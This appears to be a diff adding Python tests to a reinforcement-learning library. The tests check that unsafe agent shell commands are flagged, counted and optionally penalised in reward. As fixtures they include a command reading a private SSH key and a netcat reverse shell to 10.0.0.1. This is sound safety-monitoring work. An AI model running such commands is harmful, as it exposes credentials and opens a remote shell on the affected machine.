@@ -170,6 +170,55 @@ def test_reward_stage_maps_verdicts_and_adds_penalty_hooks():
         RewardStage(RewardConfig(penalties=["nodots"]))
 
 
+def _shell(i: int, command: str) -> Chunk:
+    call = ToolCall(name="shell", arguments={"command": command})
+    return Chunk(
+        index=i,
+        tool_calls=[call],
+        tool_results=[ToolResult(call_id=call.id, name="shell", output="")],
+    )
+
+
+def test_safety_findings_are_recorded_always_and_cost_reward_only_with_a_penalty():
+    risky = [_shell(0, "cat ~/.ssh/id_rsa"), _shell(1, "nc -e /bin/sh 10.0.0.1 4444")]
+    benign = [_shell(0, "ls -la"), _shell(1, "pytest -q tests/")]
+
+    plain = RewardStage(RewardConfig())
+    ep = _episode(risky, 1.0)
+    assert plain(ep) == 1.0  # no penalty configured: the reward is the verdict's
+    safety = ep.trajectory.metadata["safety"]
+    assert safety["findings"] == 2
+    assert safety["categories"] == ["credential_access", "reverse_shell"]
+    assert safety["weighted"] == pytest.approx(1.0 + 2.0)  # high + critical
+    assert "rs.netcat-exec" in ep.trajectory.safety_flags
+
+    penalised = RewardStage(RewardConfig(safety_penalty=0.5))
+    ep = _episode(risky, 1.0)
+    assert penalised(ep) == pytest.approx(1.0 - 0.5 * 3.0)
+    assert ep.trajectory.metadata["reward"]["safety"] == pytest.approx(-1.5)
+    clean = _episode(benign, 1.0)
+    assert penalised(clean) == 1.0
+    assert clean.trajectory.metadata["safety"]["findings"] == 0
+
+    from openale.rl.generation import Ticket, group_from_episodes
+
+    group = group_from_episodes(Ticket(0, "t", False), [ep, clean], version=0)
+    assert group.findings == [2, 0]
+
+
+def test_a_step_record_logs_the_unsafe_action_rate():
+    from openale.rl.pipeline import _step_record
+    from openale.rl.staleness import SampleGroup, Taken
+
+    groups = [
+        SampleGroup(ticket=0, task_id="a", samples=[], successes=[True, False], findings=[0, 3]),
+        SampleGroup(ticket=1, task_id="b", samples=[], successes=[True, True], findings=[0, 0]),
+    ]
+    record = _step_record(Taken(groups=groups, version=0), {}, 1.0, 0.5, 0.0)
+    assert record["unsafe_rate"] == pytest.approx(0.25)
+    assert record["safety_findings"] == pytest.approx(0.75)
+
+
 @pytest.mark.slow
 def test_smollm2_group_of_two_end_to_end():
     with LocalPolicy.from_pretrained("smollm2") as policy:
